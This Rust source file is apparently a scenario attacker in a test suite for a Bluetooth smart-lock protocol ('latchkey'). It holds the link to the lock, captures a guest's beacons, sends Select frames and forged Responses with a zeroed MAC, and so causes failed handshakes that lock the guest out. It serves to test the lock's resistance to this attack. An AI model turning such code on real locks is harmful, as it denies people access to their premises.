//! The `lockout` scenario's attacker: lockout as a lever (spec §11.11). A third controller
//! connects to the lock first (while it holds the link, BlueZ stops the lock's connectable
//! advertising, so the guest cannot get in), hears the guest's beacon, Selects it (a Select
//! carries only the beacon's tag and attempt, both on air) and answers the challenge with a
//! Response whose MAC it can only guess. Each such failed handshake counts against the
//! guest (LK-LCK-1); enough of them lock the guest out.
//!
//! It uses the workspace's BlueZ GATT client (`latchkey-transport`) for the link and writes
//! `{"stolen": [hex beacon…], "answers": [lock's answer to each Response…], "missed": […]}`
//! to `--out`.

use std::path::PathBuf;
use std::process::ExitCode;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use clap::Args;
use latchkey::frame::{BeaconView, Response, Select};
use latchkey_guest::gatt::{CHALLENGE_CHAR_UUID, RESPONSE_CHAR_UUID, SERVICE_UUID};
use latchkey_transport::radio::{BluerRadio, GattLink, GuestRadio, RadioError};
use serde_json::json;

use crate::beacons::distinct_beacons;

/// Selects of one beacon before giving up on it, and the pause between them.
const SELECT_TRIES: usize = 10;
const SELECT_RETRY: Duration = Duration::from_millis(200);

/// Options of `lockout-attacker`.
#[derive(Debug, Args)]
pub struct LockoutAttackerOptions {
    /// The attacker's controller.
    #[arg(long, default_value = "hci2")]
    adapter: String,
    /// Company id of the beacons to steal.
    #[arg(long, default_value_t = 0xFFFF)]
    company_id: u16,
    /// Failed handshakes to cause before letting go of the lock.
    #[arg(long, default_value_t = 2)]
    steals: usize,
    /// Seconds to wait for the lock, then for enough beacons.
    #[arg(long, default_value_t = 60)]
    timeout_s: u64,
    /// Seconds to keep the link after the last steal, so that the guest attempting then
    /// still cannot reach the lock.
    #[arg(long, default_value_t = 0)]
    hold_s: u64,
    /// Where the record goes (JSON).
    #[arg(long)]
    out: PathBuf,
}

/// What the attack did.
#[derive(Debug, Default)]
struct Record {
    /// Beacons whose pending authentication was taken (Select accepted).
    stolen: Vec<String>,
    /// The lock's answer to each malformed Response (`att 0x87`, …).
    answers: Vec<String>,
    /// Beacons whose Select the lock refused, with its answer.
    missed: Vec<String>,
}

/// Runs the attacker; exit status 0 when it caused `--steals` failed handshakes.
pub fn main(opts: &LockoutAttackerOptions) -> ExitCode {
    let rt = match tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
    {
        Ok(rt) => rt,
        Err(e) => {
            eprintln!("lockout-attacker: cannot start the runtime: {e}");
            return ExitCode::from(2);
        }
    };
    let mut record = Record::default();
    let result = rt.block_on(attack(opts, &mut record));
    let json = json!({
        "stolen": record.stolen,
        "answers": record.answers,
        "missed": record.missed,
    });
    if let Err(e) = std::fs::write(&opts.out, json.to_string()) {
        eprintln!("lockout-attacker: cannot write {}: {e}", opts.out.display());
    }
    match result {
        Ok(()) if record.answers.len() >= opts.steals => ExitCode::SUCCESS,
        Ok(()) => ExitCode::from(1),
        Err(e) => {
            eprintln!("lockout-attacker: {e}");
            ExitCode::from(2)
        }
    }
}

fn answer(r: Result<(), RadioError>) -> String {
    match r {
        Ok(()) => "ok".into(),
        Err(RadioError::Att(att)) => format!("att 0x{:02x}", att.code()),
        Err(e) => format!("error: {e}"),
    }
}

fn unix_s() -> u32 {
    let s = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs());
    u32::try_from(s).unwrap_or(u32::MAX)
}

async fn attack(opts: &LockoutAttackerOptions, record: &mut Record) -> Result<(), RadioError> {
    let limit = Duration::from_secs(opts.timeout_s);
    let radio = BluerRadio::new(Some(&opts.adapter)).await?;
    let link = radio.connect(SERVICE_UUID, limit).await?;
    eprintln!("lockout-attacker: connected to the lock");
    let session = bluer::Session::new().await.map_err(RadioError::from)?;
    let adapter = session.adapter(&opts.adapter).map_err(RadioError::from)?;
    let mut beacons = distinct_beacons(adapter, opts.company_id)
        .await
        .map_err(RadioError::from)?;
    let deadline = tokio::time::Instant::now() + limit;
    while record.answers.len() < opts.steals {
        let Ok(Some(data)) = tokio::time::timeout_at(deadline, beacons.recv()).await else {
            eprintln!("lockout-attacker: no more beacons in time");
            break;
        };
        let Ok(beacon) = BeaconView::parse(&data) else {
            continue;
        };
        let select = Select {
            tag: beacon.tag(),
            attempt: beacon.attempt(),
        };
        let hex = hex::encode(&data);
        // The lock may not have armed it yet (its grant still on the way): try a few times.
        let mut selected = Err(RadioError::Disconnected);
        for _ in 0..SELECT_TRIES {
            selected = link.write(CHALLENGE_CHAR_UUID, &select.to_bytes()).await;
            if selected.is_ok() {
                break;
            }
            tokio::time::sleep(SELECT_RETRY).await;
        }
        if selected.is_err() {
            let a = answer(selected);
            eprintln!("lockout-attacker: Select of {hex} refused: {a}");
            record.missed.push(format!("{hex} {a}"));
            continue;
        }
        eprintln!("lockout-attacker: stole the pending authentication of {hex}");
        record.stolen.push(hex);
        // A well-formed Response for the beacon's step, with a guessed MAC.
        let response = Response {
            phone_time: unix_s(),
            step: beacon.step(),
            mac: [0; 12],
        };
        let a = answer(link.write(RESPONSE_CHAR_UUID, &response.to_bytes()).await);
        eprintln!("lockout-attacker: the lock answered the forged Response with {a}");
        record.answers.push(a);
    }
    drop(beacons);
    tokio::time::sleep(Duration::from_secs(opts.hold_s)).await;
    if let Err(e) = link.disconnect().await {
        eprintln!("lockout-attacker: disconnect: {e}");
    }
    eprintln!("lockout-attacker: done");
    Ok(())
}
